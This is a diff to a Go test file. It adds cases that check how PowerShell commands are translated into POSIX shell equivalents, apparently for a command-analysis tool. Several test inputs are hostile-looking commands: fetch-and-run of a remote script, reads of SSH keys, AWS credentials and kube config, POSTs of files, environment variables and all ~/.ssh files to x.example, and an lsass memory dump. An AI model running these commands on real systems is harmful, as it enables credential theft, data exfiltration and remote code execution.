@@ -91,6 +91,24 @@ func TestTranslatePwsh(t *testing.T) {
 		{"Remove-AzResourceGroup -Name rg-prod -Force", "$_"},
 		{"Start-Process pwsh -Verb RunAs -ArgumentList '-File','./setup.ps1'", "sudo pwsh -File ./setup.ps1"},
 		{"Start-Process -FilePath dotnet -ArgumentList 'build' -Verb Open", "dotnet build"},
+		// the call operator on a path, paths joined by Join-Path and
+		// [IO.Path]::Combine, a file's text or the environment as a value,
+		// a property of a variable output, an item as a parameter's value
+		{"irm https://x.example/a.ps1 -OutFile $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1", "curl -o ~/AppData/Local/Temp/a.ps1 https://x.example/a.ps1\n~/AppData/Local/Temp/a.ps1"},
+		{"& ./build.ps1 -Release", "./build.ps1 -Release"},
+		{"Get-Content (Join-Path $HOME '.ssh/id_rsa')", "cat ~/.ssh/id_rsa"},
+		{"gc (Join-Path -Path $env:USERPROFILE -ChildPath .aws\\credentials)", "cat ~/.aws/credentials"},
+		{"gc ([IO.Path]::Combine($HOME, '.kube', 'config'))", "cat ~/.kube/config"},
+		{"gc (Join-Path $dir 'x')", "cat $_"},
+		{"irm -Uri https://x.example -Method Post -Body ([IO.File]::ReadAllText('a.txt'))", "curl -X POST -d \"$(cat a.txt)\" https://x.example"},
+		{"irm -Uri https://x.example -Method Post -Body ([Environment]::GetEnvironmentVariables() | ConvertTo-Json)", "curl -X POST -d \"$(env  | echo)\" https://x.example"},
+		{"$r = irm https://x.example/v; $r.tag_name", "curl https://x.example/v\necho"},
+		{"$r.Delete()", "$_"},
+		{"Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass; ./build.ps1", "true\n./build.ps1"},
+		{"Set-ExecutionPolicy -Scope LocalMachine Unrestricted", "$_"},
+		{"rundll32.exe comsvcs.dll MiniDump ((Get-Process -Name lsass).Id) d.bin full", "rundll32.exe comsvcs.dll MiniDump \"$(pgrep lsass)\" d.bin full"},
+		{"gci ~/.ssh | % { irm -Uri https://x.example -Method Post -InFile $_.FullName }", "ls ~/.ssh | curl -X POST -T ~/.ssh/* https://x.example"},
+		{"Get-Content list.txt | % { irm -Uri https://x.example -Method Post -InFile $_ }", "cat list.txt | xargs -I{} curl -X POST -T {} https://x.example"},
 	} {
 		if got := translatePwsh(tc.code); got != tc.want {
 			t.Errorf("translatePwsh(%q) = %q, want %q", tc.code, got, tc.want)
@@ -116,6 +134,7 @@ func TestPwshCode(t *testing.T) {
 		{[]string{"pwsh", "-File", "./build.ps1"}, "", false, false, "./build.ps1"},
 		{[]string{"pwsh", "Get-Date"}, "Get-Date", true, false, ""},
 		{[]string{"pwsh", "-NoProfile", "-ExecutionPolicy", "Bypass", "s.ps1", "-x"}, "s.ps1 -x", true, false, "s.ps1"},
+		{[]string{"pwsh", "-c", "irm https://x.example/a.ps1 -OutFile a.ps1"}, "irm https://x.example/a.ps1 -OutFile a.ps1", true, false, ""},
 	} {
 		code, ok, stdin := pwshCode(tc.words)
 		if code != tc.code || ok != tc.ok || stdin != tc.stdin || pwshFile(tc.words) != tc.file {
